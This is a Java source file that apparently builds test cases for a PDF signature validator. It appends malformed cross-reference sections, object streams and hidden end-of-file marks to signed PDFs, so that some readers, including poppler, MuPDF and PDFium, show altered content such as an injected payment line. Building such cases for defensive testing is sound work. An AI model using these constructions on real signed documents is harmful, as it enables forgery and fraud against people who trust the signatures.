// SPDX-License-Identifier: Apache-2.0
package org.penseal.pdf.attack;

import static org.penseal.pdf.attack.Contract.CONTENT;
import static org.penseal.pdf.attack.Contract.PAGE;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.zip.DeflaterOutputStream;
import org.penseal.pdf.Placement;

/**
 * Cross-reference sections that one reader follows, and another repairs or reads otherwise. Each
 * was found with a second section in the same update that led back to the signed words, so that
 * only some readers showed the others.
 */
final class SectionAttacks {
  private static final String AMBIGUOUS = "cross-reference-ambiguous";
  private static final String NOT_READABLE = "cross-reference-not-readable";
  // Readers search the end of the file in these octets.
  private static final int TAIL_BYTES = 1024;
  private static final int ASKED = 99;
  private static final String INFO = "<</Producer(other)>>";
  private static final String FREE = "0000000000 00001 f \n";
  private static final String EVIL =
      PdfUpdate.streamBody("", "BT /Helv 14 Tf 60 700 Td (Pay 900 EUR) Tj ET");

  private final CaseList cases = new CaseList(true).family("section");
  private byte[] signed;

  private SectionAttacks(byte[] signed) {
    this.signed = signed;
  }

  static List<Case> of(Signers signers) throws Exception {
    SectionAttacks made = new SectionAttacks(signers.certified(1));
    made.overtaken();
    made.numbers();
    made.encodings();
    made.tables();
    made.hybrids();
    made.marks();
    made.packed();
    made.signed = asking(signers);
    made.asked();
    return made.cases.all();
  }

  // The page asks for a number that no object has.
  private static byte[] asking(Signers signers) throws Exception {
    List<String> objects = new ArrayList<>(Contract.objects(""));
    Prepared.replace(objects, PAGE, "/Contents", "/TrimBox " + ASKED + " 0 R/Contents");
    Path file = Contract.write(signers.folder.resolve("prepared.pdf"), objects, false);
    return signers.sign(Files.readAllBytes(file), "rsa", new Placement.Field("second"), 1);
  }

  // poppler then repairs a file that ends with a table, and loses what is in object streams.
  private void asked() throws Exception {
    numbered("number-that-the-page-asks-for", ASKED);
    Update mixed = new Update(signed);
    int info = mixed.fresh;
    String data = row(1, mixed.object(info, INFO), 0);
    mixed.stream(info + 1, "[1 4 2]", info + " 1", data, "");
    add("stream-between", "cross-reference-kinds-mixed", mixed.table("0 0\n", info + 9, "").end());
  }

  private void add(String name, String code, byte[] file) {
    cases.add(name, code, signed, file);
  }

  // Sections of one update, of which the newest leads back, or to nothing.
  private void overtaken() throws Exception {
    Update back = new Update(signed);
    long good = back.offset(CONTENT);
    back.table(back.used(CONTENT, back.object(CONTENT, EVIL)), back.fresh, "");
    add("back", "object-twice", back.table(back.used(CONTENT, good), back.fresh, "").end());

    Update packed = new Update(signed);
    int holder = packed.fresh;
    String body = CONTENT + " 0 <<>>";
    long at = packed.object(holder, PdfUpdate.streamBody("/Type/ObjStm/N 1/First 4", body));
    String evil = row(2, holder, 0) + row(1, at, 0);
    packed.stream(holder + 1, "[1 4 2]", CONTENT + " 1 " + holder + " 1", evil, "");
    packed.stream(holder + 2, "[1 4 2]", CONTENT + " 1", row(1, good, 0), "");
    add("back-from-a-stream", "object-twice", packed.end());

    Update copied = new Update(signed);
    int stream = copied.fresh;
    long from = copied.object(stream, PdfUpdate.streamBody("/Type/ObjStm/N 1/First 4", body));
    String first = row(2, stream, 0) + row(1, from, 0);
    copied.stream(stream + 1, "[1 4 2]", CONTENT + " 1 " + stream + " 1", first, "");
    String copy = row(1, copied.object(CONTENT, copied.body(CONTENT)), 0);
    copied.stream(stream + 2, "[1 4 2]", CONTENT + " 1", copy, "");
    add("copied-behind", "object-twice", copied.end());

    Update freed = new Update(signed);
    int fresh = freed.fresh;
    freed.table(freed.used(fresh, freed.object(fresh, EVIL)), fresh + 1, "");
    freed.table(fresh + " 1\n0000000000 00001 f \n", fresh + 1, "");
    add("freed", "object-twice", freed.end());
  }

  // MuPDF takes a stream of cross references for the object whose number it has.
  private void numbers() throws Exception {
    numbered("number-of-the-words", CONTENT);
    numbered("number-0", 0);

    Update beyond = new Update(signed);
    add("free-beyond-size", NOT_READABLE, beyond.info(beyond.fresh + 9 + " 1\n" + FREE).end());

    Update large = new Update(signed);
    add("more-than-pdfium-takes", NOT_READABLE, large.info("4194309 0\n").end());

    Update zero = new Update(signed);
    add("zero-in-use", AMBIGUOUS, zero.info("0 1\n0000000000 00000 n \n").end());
  }

  private void numbered(String name, int number) throws Exception {
    Update update = new Update(signed);
    int info = update.fresh;
    String data = row(1, update.object(info, INFO), 0);
    update.stream(number, "[1 4 2]", info + " 1", data, "/Info " + info + " 0 R");
    add(name, AMBIGUOUS, update.end());
  }

  private void encodings() throws Exception {
    stream("kind-of-8-octets", NOT_READABLE, "[8 4 2]", "\0\0\0\0\0\0\0", "");
    stream("generation-of-8-octets", NOT_READABLE, "[1 4 8]", "", "\0\0\0\0\0\0");
    for (String key : List.of("/F/ASCIIHexDecode", "/FFilter/FlateDecode", "/DP<<>>")) {
      more("with" + key.replace('/', '-'), AMBIGUOUS, key);
    }
    more("several-filters", NOT_READABLE, "/Filter[/ASCIIHexDecode/ASCIIHexDecode]");
    more("decoded-by-reference", AMBIGUOUS, "/DecodeParms 999 0 R");
    more("row-of-a-billion", AMBIGUOUS, "/DecodeParms<</Columns 999999999>>");
    more("colours", AMBIGUOUS, "/DecodeParms<</Predictor 12/Columns 7/Colors 3>>");
    more("hidden-behind-a-stream", AMBIGUOUS, "/XRefStm " + new Update(signed).previous);

    Update empty = new Update(signed);
    int no = empty.fresh;
    String one = row(1, empty.object(no, INFO), 0);
    empty.stream(no + 1, "[1 4 2]", CONTENT + " 0 " + no + " 1", one, "");
    add("none-of-a-number", AMBIGUOUS, empty.end());

    Update high = new Update(signed);
    String data = "\0\0\0\0\0\1\0\0\0";
    high.stream(high.fresh, "[1 4 4]", high.fresh - 1 + " 1", data, "");
    add("free-in-generation-2^24", AMBIGUOUS, high.end());

    ByteArrayOutputStream deflated = new ByteArrayOutputStream();
    Update predicted = new Update(signed);
    int info = predicted.fresh;
    try (DeflaterOutputStream out = new DeflaterOutputStream(deflated)) {
      out.write(0);
      out.write(octets(row(1, predicted.object(info, INFO), 0)));
    }
    String parameters = "/Filter/FlateDecode/DecodeParms<</Predictor 16/Columns 7>>";
    String octets = deflated.toString(StandardCharsets.ISO_8859_1);
    predicted.stream(info + 1, "[1 4 2]", info + " 1", octets, parameters);
    add("predictor-16", AMBIGUOUS, predicted.end());
  }

  private void stream(String name, String code, String widths, String before, String behind)
      throws Exception {
    Update update = new Update(signed);
    int info = update.fresh;
    String data = before + row(1, update.object(info, INFO), 0) + behind;
    update.stream(info + 1, widths, info + " 1", data, "/Info " + info + " 0 R");
    add(name, code, update.end());
  }

  private void more(String name, String code, String more) throws Exception {
    Update update = new Update(signed);
    int info = update.fresh;
    String data = row(1, update.object(info, INFO), 0);
    update.stream(info + 1, "[1 4 2]", info + " 1", data, more);
    add(name, code, update.end());
  }

  private void tables() throws Exception {
    Update mixed = new Update(signed);
    int fresh = mixed.fresh;
    long one = mixed.object(fresh, INFO);
    long other = mixed.object(fresh + 1, INFO);
    String lines = "%d 2\n%010d 00000 n \n%010d 00000 n\n".formatted(fresh, one, other);
    add("lines-of-two-lengths", AMBIGUOUS, mixed.table(lines, fresh + 2, "").end());

    // PDFium then reads no table of the file.
    Update narrow = new Update(signed);
    String line19 = narrow.used(fresh, narrow.object(fresh, INFO)).replace("n \n", "n\n");
    add("lines-of-19-octets", AMBIGUOUS, narrow.table(line19, fresh + 1, "").end());

    Update twice = new Update(signed);
    String line = twice.used(fresh, twice.object(fresh, INFO));
    add("number-twice", AMBIGUOUS, twice.table(line + line, fresh + 1, "").end());

    Update large = new Update(signed);
    large.table(large.used(fresh, large.object(fresh, INFO)), 9_000_000, "");
    add("older-size-too-large", AMBIGUOUS, large.table("0 0\n", fresh + 1, "").end());
  }

  private void hybrids() throws Exception {
    for (boolean small : new boolean[] {true, false}) {
      Update hybrid = new Update(signed);
      int fresh = hybrid.fresh;
      String data = row(1, hybrid.object(fresh, INFO), 0);
      long hidden = hybrid.out.length();
      String previous = small ? "" : "/Prev 9";
      String dictionary =
          "/Type/XRef/W[1 4 2]/Index[%d 1]/Size %d%s".formatted(fresh, fresh + 2, previous);
      hybrid.object(fresh + 1, PdfUpdate.streamBody(dictionary, data));
      String lines = hybrid.used(fresh + 1, hidden);
      hybrid.table(lines, small ? fresh + 1 : fresh + 2, "/XRefStm " + hidden);
      add(
          small ? "table-of-a-smaller-size" : "hidden-with-previous",
          small ? NOT_READABLE : AMBIGUOUS,
          hybrid.end());
    }
  }

  private void marks() throws Exception {
    Update word = new Update(signed);
    long first = word.previous;
    word.info("");
    String mark = "startxref\n" + first + "\n%%xstartxref %d\n%%%%EOF\n";
    add("mark-in-a-remark", NOT_READABLE, word.end(mark.formatted(word.previous)));

    Update inside = new Update(signed);
    inside.info("");
    add("mark-in-a-word", NOT_READABLE, inside.end("xstartxref\n" + inside.previous + "\n%%EOF\n"));

    Update edge = new Update(signed);
    edge.info("");
    String hidden = "startxref\n%d\n%%%%xstartxref %d\n".formatted(first, edge.previous);
    int behind = hidden.length() - hidden.lastIndexOf("startxref") + "%%EOF\n".length();
    add(
        "mark-at-the-edge",
        NOT_READABLE,
        edge.end(hidden + "\n".repeat(TAIL_BYTES - behind) + "%%EOF\n"));

    Update feed = new Update(signed);
    feed.info("");
    add("form-feed", NOT_READABLE, feed.end("startxref\f" + feed.previous + "\n%%EOF\n"));
  }

  // The page as it was, in an object stream that some readers do not read.
  private void packed() throws Exception {
    Update update = new Update(signed);
    String page = update.body(PAGE);
    String info = update.fresh + " " + (page.length() + 1) + " ";
    String objects = page + " " + INFO;
    holder("descending", info + PAGE + " 0 ", objects, "/N 2/First %d", false);
    holder("counted-elsewhere", PAGE + " 0 " + info, objects, "/N %d 0 R/First %d", true);
  }

  private void holder(String name, String head, String objects, String entries, boolean counted)
      throws Exception {
    Update update = new Update(signed);
    int info = update.fresh;
    String dictionary =
        "/Type/ObjStm"
            + (counted
                ? entries.formatted(info + 2, head.length())
                : entries.formatted(head.length()));
    long at = update.object(info + 1, PdfUpdate.streamBody(dictionary, head + objects));
    long count = update.object(info + 2, "2");
    String rows =
        row(2, info + 1, counted ? 0 : 1)
            + row(2, info + 1, counted ? 1 : 0)
            + row(1, at, 0)
            + row(1, count, 0);
    update.stream(info + 3, "[1 4 2]", PAGE + " 1 " + info + " 3", rows, "");
    add(name, "object-not-readable", update.end());
  }

  private static byte[] octets(String text) {
    return text.getBytes(StandardCharsets.ISO_8859_1);
  }

  static String row(int kind, long second, int third) {
    StringBuilder row = new StringBuilder().append((char) kind);
    for (int shift = 24; shift >= 0; shift -= 8) {
      row.append((char) (second >> shift & 255));
    }
    return row.append((char) (third >> 8)).append((char) (third & 255)).toString();
  }

  /** What is appended to a signed file, section by section. */
  static final class Update {
    private final StringBuilder out;
    private final String trailer;
    private final PdfUpdate signed;
    final int fresh;
    private long previous;

    Update(byte[] file) {
      signed = new PdfUpdate(file);
      String text = new String(file, StandardCharsets.ISO_8859_1);
      out = new StringBuilder(text).append(text.endsWith("\n") ? "" : "\n");
      fresh = signed.next();
      previous = Long.parseLong(last(text, "startxref\\s+(\\d+)"));
      trailer = last(text, "(/Root\\s+\\d+\\s+\\d+\\s+R)") + last(text, "(?s)(/ID\\s*\\[.*?\\])");
    }

    private static String last(String text, String pattern) {
      Matcher matcher = Pattern.compile(pattern).matcher(text);
      String found = "";
      while (matcher.find()) {
        found = matcher.group(1);
      }
      return found;
    }

    long offset(int number) {
      return signed.offset(number);
    }

    String body(int number) {
      return signed.body(number);
    }

    long object(int number, String body) {
      long at = out.length();
      out.append(number).append(" 0 obj\n").append(body).append("\nendobj\n");
      return at;
    }

    String used(int number, long at) {
      return "%d 1\n%010d 00000 n \n".formatted(number, at);
    }

    /** A table with other information about the document, and more lines. */
    Update info(String lines) {
      String own = used(fresh, object(fresh, INFO));
      return table(own + lines, fresh + 1, "/Info " + fresh + " 0 R");
    }

    Update table(String lines, int size, String more) {
      long start = out.length();
      out.append("xref\n").append(lines).append("trailer\n<<").append(trailer);
      out.append("/Size " + size + "/Prev " + previous + more + ">>\n");
      previous = start;
      return this;
    }

    /** The section before is said to begin one octet further on. */
    Update aside() {
      previous++;
      return this;
    }

    Update stream(int number, String widths, String index, String data, String more) {
      String dictionary =
          "/Type/XRef/W%s/Index[%s]/Size %d/Prev %d"
              .formatted(widths, index, Math.max(number, fresh) + 9, previous);
      previous = object(number, PdfUpdate.streamBody(dictionary + trailer + more, data));
      return this;
    }

    byte[] end() {
      return end("startxref\n" + previous + "\n%%EOF\n");
    }

    byte[] end(String mark) {
      return octets(out + mark);
    }
  }
}
